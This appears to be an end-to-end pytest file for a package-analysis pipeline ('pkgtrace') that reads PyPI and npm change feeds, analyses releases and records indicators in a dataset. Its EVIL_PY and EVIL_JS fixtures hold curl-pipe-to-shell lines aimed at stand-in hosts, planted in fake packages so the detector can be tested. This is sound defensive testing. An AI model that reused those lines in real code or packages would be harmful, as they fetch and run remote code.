"""The whole pipeline, from a fixture registry's change feeds to rows in the dataset, as an operator
runs it: `pkgtrace up` with the embedded services, and the distributed set-up (`pkgtrace feeds`,
`pkgtrace scheduler` and two `pkgtrace worker` processes against Redis, SeaweedFS's S3 gateway and
PostgreSQL). Workers run the real analysis in static mode (fast); one test goes through the sandbox."""

from __future__ import annotations

import hashlib
import hmac
import json
import os
import shutil
import subprocess
import threading
import uuid
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import httpx
import pytest

from skips import cannot_run
import sqlalchemy as sa

from helpers import pkgtrace, wait_for
from pkgtrace.model import Ecosystem, Package
from pkgtrace.results.index import open_index
from pkgtrace.results.index import models as m
from pkgtrace.results.stores import open_store
from services import aws_env, free_port

EVIL_PY = "import os\nURL = 'http://evil.example/payload'\nos.system('curl ' + URL + ' | sh')\n"
EVIL_JS = "require('child_process').exec('curl http://203.0.113.7/x | sh');\n"


def run(env, *args, timeout=180) -> subprocess.CompletedProcess:
    return subprocess.run(pkgtrace(*args), env=env, capture_output=True, text=True, timeout=timeout)


def rows(index_url: str, table: sa.Table, *where) -> list:
    idx = open_index(index_url)
    try:
        with idx.engine.connect() as c:
            return list(c.execute(sa.select(table).where(*where)))
    finally:
        idx.close()


def analysed(index_url: str) -> list[tuple[str, str, str]]:
    return sorted((r.ecosystem, r.name, r.version) for r in rows(index_url, m.analyses))


def indicators(index_url: str, name: str) -> set[tuple[str, str]]:
    idx = open_index(index_url)
    try:
        with idx.engine.connect() as c:
            q = (sa.select(m.static_indicators.c.kind, m.static_indicators.c.value)
                 .join(m.analyses, m.analyses.c.id == m.static_indicators.c.analysis_id)
                 .where(m.analyses.c.name == name))
            return {(k, v) for k, v in c.execute(q)}
    finally:
        idx.close()


class Webhook:
    """A loopback HTTP endpoint that keeps every JSON body POSTed to it."""

    def __init__(self):
        self.events: list[dict] = []
        self.signatures: list[tuple[bytes, str | None]] = []
        hook = self

        class H(BaseHTTPRequestHandler):
            def log_message(self, *a):
                pass

            def do_POST(self):
                body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
                hook.events.append(json.loads(body))
                hook.signatures.append((body, self.headers.get("X-Pkgtrace-Signature")))
                self.send_response(204)
                self.end_headers()

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), H)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/hook"

    def close(self):
        self.server.shutdown()
        self.server.server_close()


def test_embedded_up_from_feed_to_dataset(registry, tmp_path):
    """`pkgtrace up --once` with SQLite queue and index and a results folder: the releases the
    feeds announce end up analysed, stored, loaded and announced; a second run resumes."""
    env = dict(os.environ, **registry.env(), PKGTRACE_STATE=str(tmp_path / "state"),
               PKGTRACE_RESULTS=str(tmp_path / "results"), PKGTRACE_WEBHOOK_SECRET="s3cret")
    for k in ("PKGTRACE_QUEUE", "PKGTRACE_INDEX", "PKGTRACE_NOTIFY"):
        env.pop(k, None)
    index_url = f"sqlite:///{tmp_path / 'state' / 'index.db'}"
    starts = ["--feed-start", f"pypi={registry.serial}", "--feed-start", f"npm={registry.seq}"]
    registry.add_pypi_release("alpha", "1.0", {"alpha/__init__.py": EVIL_PY})
    registry.add_npm_release("beta", "2.0.0", {"index.js": EVIL_JS})
    registry.add_npm_release("@scope/gamma", "0.1.0")
    hook = Webhook()
    try:
        p = run(env, "up", "--once", "--feed", "pypi", "--feed", "npm", *starts, "--mode", "static", "-j", "2",
                "--notify", hook.url, "--json")
        assert p.returncode == 0, p.stderr
        summary = json.loads(p.stdout)
        assert summary["done"] == 3 and summary["dead"] == 0, summary
        expected = [("npm", "@scope/gamma", "0.1.0"), ("npm", "beta", "2.0.0"), ("pypi", "alpha", "1.0")]
        assert analysed(index_url) == expected
        # The dataset holds what the static analysis found, queryable per release.
        assert ("url", "http://evil.example/payload") in indicators(index_url, "alpha")
        files = {r.filename for r in rows(index_url, m.static_files)}
        assert any(f.endswith("alpha/__init__.py") for f in files) and any(f.endswith("index.js") for f in files)
        # The documents are in the results folder, and one event per analysis went out.
        store = open_store(str(tmp_path / "results"))
        assert store.get(Package(Ecosystem.PYPI, "alpha", "1.0"), "static")["name"] == "alpha"
        assert sorted((e["event"], e["name"]) for e in hook.events) == [
            ("analysis.completed", "@scope/gamma"), ("analysis.completed", "alpha"), ("analysis.completed", "beta")]
        # ... with the verdict, read from the stored report
        verdicts = {e["name"]: (e["label"], e["score"]) for e in hook.events}
        assert verdicts["@scope/gamma"][0] == "benign" and verdicts["alpha"][0] != "benign", verdicts
        assert all(isinstance(score, (int, float)) for _label, score in verdicts.values()), verdicts
        # Each event is signed with the shared secret, so a receiver can tell it is ours.
        for body, sig in hook.signatures:
            assert sig == "sha256=" + hmac.new(b"s3cret", body, hashlib.sha256).hexdigest()

        # Run again: the feeds resume from their stored cursors. Nothing is repeated, the new
        # release is picked up, and the release announced twice is analysed once.
        registry.add_pypi_release("delta", "0.2")
        registry.add_pypi_event("alpha", "1.0", "add py3 file alpha-1.0-py3-none-any.whl")
        p = run(env, "up", "--once", "--feed", "pypi", "--feed", "npm", "--mode", "static", "-j", "2", "--json")
        assert p.returncode == 0, p.stderr
        assert json.loads(p.stdout)["done"] == 1
        assert analysed(index_url) == sorted(expected + [("pypi", "delta", "0.2")])
        assert len(rows(index_url, m.analyses, m.analyses.c.name == "alpha")) == 1

        st = run(env, "status", "--json")
        assert st.returncode == 0, st.stderr
        status = json.loads(st.stdout)
        assert status["releases"] == {"done": 4} and status["throughput"]["analyses_total"] == 4
        assert {f["feed"]: f["cursor"] for f in status["feeds"]} == {"pypi": str(registry.serial),
                                                                   "npm": str(registry.seq)}
        assert status["queue"]["ready"] == 0 and status["queue"]["dead"] == 0

        ex = run(env, "export", "parquet", str(tmp_path / "parquet"), "--json")
        assert ex.returncode == 0, ex.stderr
        assert json.loads(ex.stdout)["rows"]["analyses"] == 4
    finally:
        hook.close()


def test_up_once_exits_3_when_no_feed_can_be_read(registry, tmp_path):
    """A change feed that cannot be reached (as PyPI's XML-RPC through some caches) is an
    infrastructure failure with a clear message, not a silent 'done 0'."""
    env = dict(os.environ, **registry.env(), PKGTRACE_STATE=str(tmp_path / "state"),
               PKGTRACE_RESULTS=str(tmp_path / "results"))
    registry.fault("/pypi", *["500"] * 10)
    p = run(env, "up", "--once", "--feed", "pypi", "--mode", "static", "-j", "1", "--json")
    assert p.returncode == 3, p.stderr
    assert json.loads(p.stdout)["feeds"]["pypi"]["error"]
    assert "no feed could be read" in p.stderr and "--watch" in p.stderr


def test_distributed_redis_s3_postgres_two_workers(registry, redis_server, seaweed, postgres, tmp_path):
    """Each part alone against shared services given by URL: feeds → PostgreSQL, scheduler →
    Redis Streams, two worker processes → SeaweedFS (S3) + PostgreSQL + a Redis event stream."""
    postgres.reset()
    tag = uuid.uuid4().hex[:8]
    queue = f"{redis_server.url}?prefix=e2e{tag}&lease=30"
    results = seaweed.url("pkgtrace-results", f"e2e-{tag}")
    notify = f"{redis_server.url}?stream=events-{tag}"
    index = postgres.url
    env = dict(os.environ, **registry.env(), **aws_env())
    starts = ["--feed-start", f"pypi={registry.serial}", "--feed-start", f"npm={registry.seq}"]
    expected = []
    for i in range(4):
        registry.add_pypi_release(f"dist-py{i}", f"1.{i}", {f"dist_py{i}/__init__.py": EVIL_PY if i == 0 else "x = 1\n"})
        expected.append(("pypi", f"dist-py{i}", f"1.{i}"))
        registry.add_npm_release(f"dist-js{i}", f"0.{i}.0", {"index.js": EVIL_JS if i == 0 else "module.exports = 2;\n"})
        expected.append(("npm", f"dist-js{i}", f"0.{i}.0"))

    p = run(env, "feeds", "--once", "--feed", "pypi", "--feed", "npm", *starts, "--index", index, "--json")
    assert p.returncode == 0, p.stderr
    p = run(env, "scheduler", "--once", "--queue", queue, "--index", index, "--json")
    assert p.returncode == 0, p.stderr
    assert json.loads(p.stdout) == {"scheduled": 8, "skipped": 0}

    metrics_port = free_port()
    common = ["--queue", queue, "--index", index, "--results", results, "--notify", notify,
              "--mode", "static", "--workers", "1", "--idle-exit", "4", "--json"]
    logs = [open(tmp_path / f"worker{i}.log", "wb") for i in range(2)]
    workers = [subprocess.Popen(pkgtrace("worker", *common, *(["--metrics-port", str(metrics_port)] if i == 0 else [])),
                                env=env, stdout=subprocess.PIPE, stderr=logs[i], text=True) for i in range(2)]
    try:
        # Prometheus metrics while it runs: the shared queue and dataset, and this process's counters.
        text = wait_for(lambda: _scrape(metrics_port), 60, what="/metrics")
        assert "pkgtrace_queue_jobs" in text and "pkgtrace_releases" in text
        outs = [json.loads(w.communicate(timeout=240)[0]) for w in workers]
    finally:
        for w in workers:
            if w.poll() is None:
                w.kill()
    assert all(w.returncode == 0 for w in workers)
    assert sum(o["done"] for o in outs) == 8 and sum(o["dead"] + o["retried"] for o in outs) == 0, outs
    # Both processes took part, and every release is in the dataset exactly once.
    analyses = rows(index, m.analyses)
    assert sorted((r.ecosystem, r.name, r.version) for r in analyses) == sorted(expected)
    assert len({r.worker.rsplit("-", 1)[0] for r in analyses}) == 2
    assert all(r.location.startswith("s3://") for r in analyses)
    assert ("url", "http://evil.example/payload") in indicators(index, "dist-py0")
    store = open_store(results)
    assert sorted(str(p) for p in store.list()) == sorted(str(Package(Ecosystem(e), n, v)) for e, n, v in expected)
    assert store.get(Package(Ecosystem.NPM, "dist-js0", "0.0.0"), "static")["name"] == "dist-js0"
    import redis
    events = redis.Redis.from_url(redis_server.url).xrange(f"events-{tag}")
    assert sorted(json.loads(f[b"event"])["name"] for _, f in events) == sorted(n for _, n, _ in expected)

    st = run(env, "status", "--queue", queue, "--index", index, "--json")
    assert st.returncode == 0, st.stderr
    status = json.loads(st.stdout)
    assert status["releases"] == {"done": 8}
    assert (status["queue"]["ready"], status["queue"]["leased"], status["queue"]["dead"]) == (0, 0, 0)
    assert sorted(f["feed"] for f in status["feeds"]) == ["npm", "pypi"]


def _scrape(port: int) -> str | None:
    try:
        r = httpx.get(f"http://127.0.0.1:{port}/metrics", timeout=2)
    except httpx.HTTPError:
        return None
    return r.text if r.status_code == 200 else None


@pytest.mark.sandbox
def test_up_through_the_real_sandbox(registry, tmp_path):
    """One release from the fixture feed through the gVisor sandbox: its install script's file
    write and command are rows in the dataset, in the install phase."""
    if shutil.which("runsc") is None or os.geteuid() != 0:
        cannot_run("needs runsc and root")
    env = dict(os.environ, **registry.env(), PKGTRACE_STATE=str(tmp_path / "state"),
               PKGTRACE_RESULTS=str(tmp_path / "results"))
    index_url = f"sqlite:///{tmp_path / 'state' / 'index.db'}"
    start = registry.seq
    registry.add_npm_release("pipeline-probe", "1.0.0", scripts={
        "postinstall": "node -e \"require('fs').writeFileSync('/tmp/pipeline-probe-was-here', 'x')\""})
    p = run(env, "up", "--once", "--feed", "npm", "--feed-start", f"npm={start}", "--mode", "all", "-j", "1",
            "--json", timeout=600)
    assert p.returncode == 0, p.stderr
    assert json.loads(p.stdout)["done"] == 1, p.stderr
    assert analysed(index_url) == [("npm", "pipeline-probe", "1.0.0")]
    writes = [r for r in rows(index_url, m.files, m.files.c.path == "/tmp/pipeline-probe-was-here")]
    assert writes and writes[0].phase == "install" and writes[0].write
    phases = {r.phase: r.status for r in rows(index_url, m.phases)}
    assert phases["install"] == "completed"
    cmds = [r.command_line for r in rows(index_url, m.commands, m.commands.c.phase == "install")]
    assert any("pipeline-probe-was-here" in c for c in cmds), cmds
